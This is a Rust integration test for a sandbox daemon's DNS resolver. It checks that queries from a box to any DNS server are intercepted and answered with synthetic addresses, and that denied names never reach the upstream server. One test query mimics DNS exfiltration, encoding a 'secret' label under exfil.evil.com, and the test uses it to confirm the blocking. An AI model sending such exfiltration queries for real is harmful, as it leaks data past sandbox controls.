//! boxd's resolver for real: a throwaway namespace stands in for the
//! host (ruleset, resolver, a stand-in upstream DNS server on its
//! 127.0.0.1), another for a box behind its veth. Whatever address a box
//! sends DNS to, boxd's resolver answers it — over UDP and TCP, IPv4 and
//! IPv6 — and the answer appears to come from where the query went.

mod common;

use std::collections::HashMap;
use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::os::fd::{AsFd, OwnedFd};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use boxd_net::netns::run_in;
use boxd_net::policy::{AllowNet, EgressPolicy, OperatorNet};
use boxd_net::{
    AddressPlan, BoxNet, DnsEvent, EventSink, EventStream, NetEvent, Registry, Resolver, Ruleset,
    RulesetConfig, SlotAddrs, UpstreamConfig, Upstreams, Veths,
};
use common::skip_unless_capable;
use hickory_proto::op::{Message, Query, ResponseCode};
use hickory_proto::rr::rdata::{A, SOA};
use hickory_proto::rr::{Name, RData, Record, RecordType};
use socket2::Socket;

const QUICK: Duration = Duration::from_millis(400);
const PATIENT: Duration = Duration::from_secs(5);
const WWW: Ipv4Addr = Ipv4Addr::new(93, 184, 216, 34);

type Asked = Arc<Mutex<Vec<String>>>;

/// The daemon side, on a thread inside the "host" namespace with its own
/// runtime: the resolver, its upstream resolver (whose sockets are made
/// there too) and a stand-in upstream DNS server on 127.0.0.1.
struct Daemon {
    port: u16,
    asked: Asked,
    stop: Option<tokio::sync::oneshot::Sender<()>>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Drop for Daemon {
    fn drop(&mut self) {
        if let Some(stop) = self.stop.take() {
            let _ = stop.send(());
        }
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

fn start_daemon(host: &OwnedFd, registry: Arc<Registry>, sink: EventSink) -> Daemon {
    let ns = host.try_clone().unwrap();
    let (ready_tx, ready_rx) = std::sync::mpsc::channel();
    let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
    let thread = std::thread::spawn(move || {
        run_in(ns.as_fd(), move || {
            let rt = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .unwrap();
            rt.block_on(async move {
                let (upstream, asked) = fake_upstream(&[("www.example.com", WWW)]).await;
                let sockets = Resolver::bind_pair(0).expect("bind the resolver");
                let port = sockets.port();
                let upstreams = Upstreams::new(UpstreamConfig {
                    dns: vec![upstream],
                    overrides: Default::default(),
                })
                .unwrap();
                let resolver = Arc::new(Resolver::new(registry, Arc::new(upstreams), sink));
                let serving = tokio::spawn(resolver.serve(sockets));
                ready_tx.send((port, asked)).unwrap();
                let _ = stop_rx.await;
                serving.abort();
            });
        })
        .expect("enter the host namespace");
    });
    let (port, asked) = ready_rx.recv_timeout(PATIENT).expect("daemon up");
    Daemon {
        port,
        asked,
        stop: Some(stop_tx),
        thread: Some(thread),
    }
}

/// A UDP DNS server on 127.0.0.1 (of the calling thread's namespace):
/// zone names have an A record, anything else is NXDOMAIN; every name
/// asked is recorded.
async fn fake_upstream(zone: &[(&str, Ipv4Addr)]) -> (SocketAddr, Asked) {
    let zone: HashMap<String, Ipv4Addr> = zone.iter().map(|(n, ip)| (n.to_string(), *ip)).collect();
    let asked = Asked::default();
    let sock = tokio::net::UdpSocket::bind("127.0.0.1:0")
        .await
        .expect("127.0.0.1 in the host namespace");
    let addr = sock.local_addr().unwrap();
    let log = asked.clone();
    tokio::spawn(async move {
        let mut buf = [0u8; 4096];
        loop {
            let Ok((n, from)) = sock.recv_from(&mut buf).await else {
                continue;
            };
            let Ok(q) = Message::from_vec(&buf[..n]) else {
                continue;
            };
            let Some(question) = q.queries.first().cloned() else {
                continue;
            };
            let name = question.name.to_ascii().to_ascii_lowercase();
            let name = name.trim_end_matches('.').to_string();
            log.lock().unwrap().push(name.clone());
            let mut r = Message::response(q.metadata.id, q.metadata.op_code);
            r.metadata.recursion_desired = q.metadata.recursion_desired;
            r.metadata.recursion_available = true;
            r.add_query(question.clone());
            match zone.get(&name) {
                Some(ip) if question.query_type == RecordType::A => {
                    r.add_answer(Record::from_rdata(question.name, 60, RData::A(A(*ip))));
                }
                found => {
                    if found.is_none() {
                        r.metadata.response_code = ResponseCode::NXDomain;
                    }
                    let apex = Name::from_ascii("test-upstream.").unwrap();
                    let soa = SOA::new(apex.clone(), apex.clone(), 1, 3600, 600, 86400, 60);
                    r.add_authority(Record::from_rdata(apex, 60, RData::SOA(soa)));
                }
            }
            if let Ok(bytes) = r.to_vec() {
                let _ = sock.send_to(&bytes, from).await;
            }
        }
    });
    (addr, asked)
}

fn query(id: u16, name: &str, t: RecordType) -> Vec<u8> {
    let mut m = Message::query();
    m.metadata.id = id;
    m.metadata.recursion_desired = true;
    m.add_query(Query::query(Name::from_ascii(name).unwrap(), t));
    m.to_vec().unwrap()
}

fn sa(ip: impl Into<IpAddr>, port: u16) -> SocketAddr {
    SocketAddr::new(ip.into(), port)
}

/// One UDP query from `sock` to `to`: the answer, and where it came from.
fn ask_udp(sock: &Socket, to: SocketAddr, q: &[u8]) -> Option<(Message, SocketAddr)> {
    sock.send_to(q, &to.into()).expect("send");
    let (data, from) = common::recv_within(sock, PATIENT)?;
    Some((Message::from_vec(&data).expect("a DNS answer"), from))
}

fn write_framed(s: &mut &Socket, q: &[u8]) {
    let mut framed = (q.len() as u16).to_be_bytes().to_vec();
    framed.extend_from_slice(q);
    s.write_all(&framed).expect("tcp write");
}

/// One length-prefixed answer, or `None` at EOF / error / timeout.
fn read_framed(s: &mut &Socket) -> Option<Message> {
    let mut len = [0u8; 2];
    s.read_exact(&mut len).ok()?;
    let mut buf = vec![0u8; usize::from(u16::from_be_bytes(len))];
    s.read_exact(&mut buf).ok()?;
    Some(Message::from_vec(&buf).expect("a DNS answer"))
}

fn answer_ips(m: &Message) -> Vec<IpAddr> {
    m.answers
        .iter()
        .filter_map(|r| match &r.data {
            RData::A(a) => Some(IpAddr::V4(a.0)),
            RData::AAAA(a) => Some(IpAddr::V6(a.0)),
            _ => None,
        })
        .collect()
}

fn drain(events: &mut EventStream) -> Vec<DnsEvent> {
    let mut out = Vec::new();
    while let Ok(e) = events.try_recv() {
        match e {
            NetEvent::Dns(d) => out.push(d),
            other => panic!("unexpected event {other:?}"),
        }
    }
    out
}

/// A host namespace with the ruleset and the daemon, one box (slot 1)
/// behind its veth, not registered yet.
struct Setup {
    host: OwnedFd,
    boxns: OwnedFd,
    _veths: Veths,
    a: SlotAddrs,
    registry: Arc<Registry>,
    events: EventStream,
    daemon: Daemon,
    ruleset: Ruleset,
}

async fn setup() -> Setup {
    let host = common::netns();
    common::lo_up(&host);
    let plan = AddressPlan::default();
    let veths = Veths::new_in(plan, host.as_fd()).expect("veths");
    let boxns = common::netns();
    let a = veths.create(1, boxns.as_fd()).await.expect("veth").addrs;
    let registry = Arc::new(Registry::new(plan));
    let (sink, events) = EventSink::channel(256);
    let daemon = start_daemon(&host, registry.clone(), sink);
    let proxy_port = if daemon.port == 15001 { 15002 } else { 15001 };
    let ruleset = Ruleset::new(RulesetConfig::new(proxy_port, daemon.port)).unwrap();
    ruleset.install(Some(host.as_fd())).await.expect("ruleset");
    Setup {
        host,
        boxns,
        _veths: veths,
        a,
        registry,
        events,
        daemon,
        ruleset,
    }
}

impl Setup {
    fn register(&self) -> Arc<BoxNet> {
        let policy = EgressPolicy::new(
            Some(AllowNet::parse(&["*.example.com"]).unwrap()),
            None,
            OperatorNet::default(),
        );
        let net = Arc::new(BoxNet::new("box-1", self.a, policy));
        self.registry.insert(net.clone());
        net
    }

    async fn teardown(self) {
        self.ruleset
            .remove(Some(self.host.as_fd()))
            .await
            .expect("remove");
        drop(self.daemon);
    }
}

#[tokio::test(flavor = "current_thread")]
async fn box_dns_goes_to_boxds_resolver_whatever_the_server() {
    skip_unless_capable!();
    let mut st = setup().await;
    let (boxns, a) = (&st.boxns, st.a);
    let any4 = sa(Ipv4Addr::UNSPECIFIED, 0);
    let any6 = sa(Ipv6Addr::UNSPECIFIED, 0);
    let udp4 = common::udp_socket(boxns, any4);
    let udp6 = common::udp_socket(boxns, any6);
    let google4 = sa([8, 8, 8, 8], 53);
    let google6 = sa("2001:4860:4860::8888".parse::<Ipv6Addr>().unwrap(), 53);

    // Not (yet) a registered box: no answer, nothing upstream, no event.
    udp4.send_to(
        &query(1, "www.example.com.", RecordType::A),
        &google4.into(),
    )
    .unwrap();
    assert!(
        common::recv_within(&udp4, QUICK).is_none(),
        "answered an unknown source"
    );
    let tcp = common::connect_from(boxns, sa([9, 9, 9, 9], 53), PATIENT).expect("tcp 53");
    tcp.set_read_timeout(Some(PATIENT)).unwrap();
    write_framed(&mut &tcp, &query(2, "www.example.com.", RecordType::A));
    assert!(
        read_framed(&mut &tcp).is_none(),
        "answered an unknown source over TCP"
    );
    drop(tcp);
    assert!(st.daemon.asked.lock().unwrap().is_empty());
    assert!(drain(&mut st.events).is_empty());

    let net = st.register();

    // UDP over IPv4, to a public resolver and to the host end: boxd
    // answers, and the answer comes from where the query went.
    let (r, from) = ask_udp(&udp4, google4, &query(3, "www.example.com.", RecordType::A))
        .expect("udp answer via 8.8.8.8");
    assert_eq!(from, google4, "reply source (conntrack un-NAT)");
    assert_eq!(
        (r.metadata.id, r.metadata.response_code),
        (3, ResponseCode::NoError)
    );
    let v4 = answer_ips(&r);
    assert_eq!(
        v4,
        [IpAddr::V4(Ipv4Addr::new(198, 18, 1, 0))],
        "synthetic, never {WWW}"
    );
    let host53 = sa(a.host_v4, 53);
    let (r, from) = ask_udp(
        &udp4,
        host53,
        &query(4, "www.example.com.", RecordType::AAAA),
    )
    .expect("udp answer via the host end");
    assert_eq!(from, host53);
    let v6 = answer_ips(&r);
    assert_eq!(v6, [IpAddr::V6("fd42:b0c5:ff::100".parse().unwrap())]);
    assert_eq!(net.name_of(v4[0]).unwrap().as_str(), "www.example.com");

    // UDP over IPv6.
    let (r, from) =
        ask_udp(&udp6, google6, &query(5, "www.example.com.", RecordType::A)).expect("udp6 answer");
    assert_eq!(from, google6);
    assert_eq!(answer_ips(&r), v4, "stable");
    let host6_53 = sa(a.host_v6, 53);
    let (_, from) = ask_udp(
        &udp6,
        host6_53,
        &query(6, "www.example.com.", RecordType::AAAA),
    )
    .expect("udp6 answer via the host end");
    assert_eq!(from, host6_53);

    // TCP, IPv4: two queries on one connection, one through upstream's
    // NXDOMAIN.
    let tcp = common::connect_from(boxns, sa([9, 9, 9, 9], 53), PATIENT).expect("tcp 53");
    tcp.set_read_timeout(Some(PATIENT)).unwrap();
    write_framed(&mut &tcp, &query(7, "www.example.com.", RecordType::A));
    write_framed(&mut &tcp, &query(8, "missing.example.com.", RecordType::A));
    let r = read_framed(&mut &tcp).expect("first tcp answer");
    assert_eq!((r.metadata.id, answer_ips(&r)), (7, v4.clone()));
    let r = read_framed(&mut &tcp).expect("second tcp answer");
    assert_eq!(
        (r.metadata.id, r.metadata.response_code),
        (8, ResponseCode::NXDomain)
    );
    drop(tcp);
    // TCP, IPv6.
    let to = sa("2001:db8::53".parse::<Ipv6Addr>().unwrap(), 53);
    let tcp = common::connect_from(boxns, to, PATIENT).expect("tcp6 53");
    tcp.set_read_timeout(Some(PATIENT)).unwrap();
    write_framed(&mut &tcp, &query(9, "www.example.com.", RecordType::AAAA));
    let r = read_framed(&mut &tcp).expect("tcp6 answer");
    assert_eq!(answer_ips(&r), v6);
    drop(tcp);

    // A denied name: a synthetic address (the proxy refuses the
    // connection to it), and its labels never leave the host.
    let (r, _) = ask_udp(
        &udp4,
        google4,
        &query(10, "c2VjcmV0.exfil.evil.com.", RecordType::A),
    )
    .expect("answer for a denied name");
    assert_eq!(r.metadata.response_code, ResponseCode::NoError);
    let denied_ips = answer_ips(&r);
    assert!(
        denied_ips.len() == 1 && boxd_net::synth::is_synthetic(denied_ips[0]),
        "{denied_ips:?}"
    );

    // Upstream (the stand-in on the host's 127.0.0.1) saw exactly the
    // allowed names, through the resolver's own lookups.
    let mut asked = st.daemon.asked.lock().unwrap().clone();
    asked.sort();
    asked.dedup();
    assert_eq!(asked, ["missing.example.com", "www.example.com"]);

    // One event per question from the box, none from before it was one.
    let evs = drain(&mut st.events);
    assert_eq!(evs.len(), 8, "{evs:#?}");
    assert!(evs.iter().all(|e| e.box_id == "box-1"));
    let denied: Vec<_> = evs.iter().filter(|e| e.decision == "deny").collect();
    assert_eq!(denied.len(), 1);
    assert_eq!(denied[0].name, "c2vjcmv0.exfil.evil.com");
    assert_eq!(denied[0].rcode, "NOERROR");
    assert_eq!(denied[0].answers, denied_ips);

    st.teardown().await;
}

/// Runs `ip <args>` inside `ns`; false if the `ip` binary is missing.
fn ip_in(ns: &OwnedFd, args: &[&str]) -> bool {
    use std::os::fd::AsRawFd;
    use std::os::unix::process::CommandExt;
    let raw = ns.as_raw_fd();
    let mut cmd = std::process::Command::new("ip");
    cmd.args(args);
    // SAFETY: only setns(2), async-signal-safe, runs between fork and
    // exec; `raw` stays open because `ns` outlives the child.
    unsafe {
        cmd.pre_exec(move || {
            if libc::setns(raw, libc::CLONE_NEWNET) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    match cmd.output() {
        Ok(out) => {
            assert!(
                out.status.success(),
                "ip {args:?}: {}",
                String::from_utf8_lossy(&out.stderr)
            );
            true
        }
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => false,
        Err(e) => panic!("run ip: {e}"),
    }
}

/// The reply must leave from the address the query was redirected to,
/// not from whatever source the kernel would pick for the box's address:
/// here the host's route to the box prefers another source, and the
/// answer still reaches the box as if from 8.8.8.8 (with the kernel's
/// choice, conntrack would not match it and the box would see
/// 10.99.0.1 instead).
#[tokio::test(flavor = "current_thread")]
async fn replies_leave_from_the_redirected_address() {
    skip_unless_capable!();
    let mut st = setup().await;
    st.register();
    let a = st.a;
    let box4 = format!("{}/32", a.box_v4);
    let box6 = format!("{}/128", a.box_v6);
    if !ip_in(&st.host, &["addr", "add", "10.99.0.1/32", "dev", "lo"]) {
        st.teardown().await;
        return common::skip("the ip binary is missing");
    }
    ip_in(
        &st.host,
        &["route", "replace", &box4, "dev", "bx1", "src", "10.99.0.1"],
    );
    ip_in(&st.host, &["-6", "addr", "add", "fd99::1/128", "dev", "lo"]);
    ip_in(
        &st.host,
        &[
            "-6", "route", "replace", &box6, "dev", "bx1", "src", "fd99::1",
        ],
    );

    // Control: a host socket that does not choose its source now sends
    // to the box from the hinted addresses.
    for (box_ip, any, hinted) in [
        (
            IpAddr::V4(a.box_v4),
            sa(Ipv4Addr::UNSPECIFIED, 0),
            "10.99.0.1",
        ),
        (
            IpAddr::V6(a.box_v6),
            sa(Ipv6Addr::UNSPECIFIED, 0),
            "fd99::1",
        ),
    ] {
        let listener = common::udp_socket(&st.boxns, any);
        let port = listener.local_addr().unwrap().as_socket().unwrap().port();
        let sender = common::udp_socket(&st.host, any);
        sender.send_to(b"hi", &sa(box_ip, port).into()).unwrap();
        let (_, from) = common::recv_within(&listener, PATIENT).expect("control datagram");
        assert_eq!(
            from.ip(),
            hinted.parse::<IpAddr>().unwrap(),
            "the route hint bites"
        );
    }

    let google4 = sa([8, 8, 8, 8], 53);
    let google6 = sa("2001:4860:4860::8888".parse::<Ipv6Addr>().unwrap(), 53);
    for (any, to) in [
        (sa(Ipv4Addr::UNSPECIFIED, 0), google4),
        (sa(Ipv6Addr::UNSPECIFIED, 0), google6),
    ] {
        let sock = common::udp_socket(&st.boxns, any);
        let (r, from) = ask_udp(&sock, to, &query(1, "www.example.com.", RecordType::A))
            .unwrap_or_else(|| panic!("no answer via {to}"));
        assert_eq!(from, to, "reply source");
        assert_eq!(r.metadata.response_code, ResponseCode::NoError);
    }
    drain(&mut st.events);
    st.teardown().await;
}
